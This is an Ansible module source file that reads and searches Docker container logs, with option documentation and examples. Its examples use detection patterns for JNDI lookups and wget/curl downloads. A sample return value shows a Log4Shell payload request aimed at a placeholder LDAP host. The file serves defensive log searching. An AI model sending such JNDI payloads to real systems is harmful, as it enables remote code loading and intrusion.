#!/usr/bin/python
# Copyright (c) The cordon.docker authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

DOCUMENTATION = r"""
module: container_logs_info
short_description: What containers wrote to their logs
version_added: 0.1.0
author:
  - The cordon.docker authors (@cordon-collections)
description:
  - Tells for each container what C(docker logs) shows, or the lines of it that hold a text.
  - Where the log driver keeps files (C(json-file), C(local)) that the user can read, they are read on the
    host with their
    rotated siblings, which is many times quicker than the engine. Else the engine is asked.
  - The memory used does not grow with the log.
extends_documentation_fragment:
  - cordon.docker.engine
  - cordon.docker.containers
  - cordon.docker.attributes
  - cordon.docker.attributes.info
  - cordon.docker.attributes.engine_group
options:
  since:
    description:
      - Only lines from then on. A time before now, such as V(30m), V(2h) or V(1d12h), or a moment with its
        zone, such as
        V(2026-02-03T04:05:06Z).
    type: str
  until:
    description:
      - Only lines up to then, given as for O(since).
    type: str
  tail:
    description:
      - Only the last lines, so many. With O(keyword) or O(regex), only these are searched.
      - Without O(tail), O(keyword) and O(regex), the last 1000 are taken.
    type: int
  keyword:
    description:
      - Return only lines that hold one of these texts.
    type: list
    elements: str
    aliases: [keywords]
  regex:
    description:
      - Return only lines in which one of these regular expressions of Python's is found. Their classes, such
        as that of
        digits, are ASCII.
      - One that needs a fixed text of two or more characters searches a log as fast as O(keyword); one that
        does not has
        every line taken apart, and takes many times as long.
    type: list
    elements: str
    aliases: [regexes]
  ignore_case:
    description:
      - Whether O(keyword) and O(regex) do not tell upper from lower case, of ASCII letters.
    type: bool
    default: false
  max_matches:
    description:
      - Stop after so many matches in a container's log.
    type: int
    default: 1000
  max_bytes:
    description:
      - How many bytes of lines to return of a container at most. Of a search the first are returned,
        otherwise the last.
    type: int
    default: 1048576
notes:
  - A line of more than 16 KiB is several lines to the engine.
seealso:
  - module: cordon.docker.container_info
"""

EXAMPLES = r"""
- name: Show the last hundred lines of a container
  cordon.docker.container_logs_info:
    containers: [log4shell]
    tail: 100

- name: Look for lookups through JNDI in the logs of all containers
  cordon.docker.container_logs_info:
    keyword: ["${jndi:"]
    ignore_case: true
  register: lookups

- name: Look for downloads in the last two hours
  cordon.docker.container_logs_info:
    regex: ["(wget|curl)[ +]http"]
    since: 2h
"""

RETURN = r"""
containers:
  description:
    - The containers, an entry each, in the order they were named, or by name.
    - The task fails when one could not be asked about; the entries of the others are returned all the same.
  returned: when the engine answers
  type: list
  elements: dict
  contains:
    id:
      description: The ID, null where there is no such container.
      type: str
      sample: 3c1c2f5cd2d1b7fb0e4b9e9f8d9cf0f3a2fb0a5f2f4a3b0d6b7b0d2c8f1a9e4d
    name:
      description: The name, or what was asked for where there is no such container.
      type: str
      sample: log4shell
    state:
      description: Such as V(running), V(paused) or V(exited).
      type: str
      sample: running
    failed:
      description: Whether the container could not be asked about.
      type: bool
      sample: false
    error:
      description: Why it could not; null otherwise.
      type: str
      sample: null
    driver:
      description: The log driver.
      type: str
      sample: json-file
    source:
      description: Where the log was read, V(files) or V(engine); null where there is none.
      type: str
      sample: files
    files:
      description: The files that were read, oldest first.
      type: list
      elements: str
      sample: [/var/lib/docker/containers/3c1c2f5cd2d1/3c1c2f5cd2d1-json.log]
    lines_scanned:
      description: How many lines were looked through.
      type: int
      sample: 3840004
    bytes_scanned:
      description: How many bytes were looked through.
      type: int
      sample: 1004847112
    lines:
      description: The lines, oldest first. Empty with O(keyword) or O(regex).
      type: list
      elements: dict
      contains:
        time:
          description: When it was written, RFC 3339 in UTC; null where the log is damaged.
          type: str
          sample: "2026-02-03T04:05:06.841764166Z"
        stream:
          description: V(stdout) or V(stderr); V(unknown) where the log is damaged.
          type: str
          sample: stdout
        line:
          description: The line. Bytes that are not UTF-8 appear as escapes.
          type: str
          sample: Server started
    matches:
      description: The lines found, oldest first. Empty without O(keyword) and O(regex).
      type: list
      elements: dict
      contains:
        time:
          description: When it was written, RFC 3339 in UTC; null where the log is damaged.
          type: str
          sample: "2026-02-03T04:05:06.841764166Z"
        stream:
          description: V(stdout) or V(stderr); V(unknown) where the log is damaged.
          type: str
          sample: stdout
        line:
          description: The line. Bytes that are not UTF-8 appear as escapes.
          type: str
          sample: "GET /?x=${jndi:ldap://192.0.2.66/a} HTTP/1.1"
        number:
          description: The number of the line, from 1; null where the search did not begin at the log's start.
          type: int
          sample: 800001
        pattern:
          description: The first text or expression that it matches.
          type: str
          sample: "${jndi:"
    truncated:
      description: Whether there is more than is returned.
      type: bool
      sample: false
    truncated_reason:
      description: Why; null otherwise.
      type: str
      sample: null
"""

from ansible.module_utils.basic import AnsibleModule

from ansible_collections.cordon.docker.plugins.module_utils._engine.logs import (
    container_logs_info,
    logs_argument_spec,
)
from ansible_collections.cordon.docker.plugins.module_utils._engine.selection import SELECTION_EXCLUSIVE
from ansible_collections.cordon.docker.plugins.module_utils._errors import CordonError


def main() -> None:
    module = AnsibleModule(
        argument_spec=logs_argument_spec(),
        mutually_exclusive=[SELECTION_EXCLUSIVE],
        supports_check_mode=True,
    )
    try:
        answer = container_logs_info(module.params)
    except CordonError as exc:
        module.fail_json(msg=str(exc))
    if answer.failure:
        module.fail_json(msg=answer.failure, containers=answer.containers)
    module.exit_json(changed=False, containers=answer.containers)


if __name__ == "__main__":
    main()
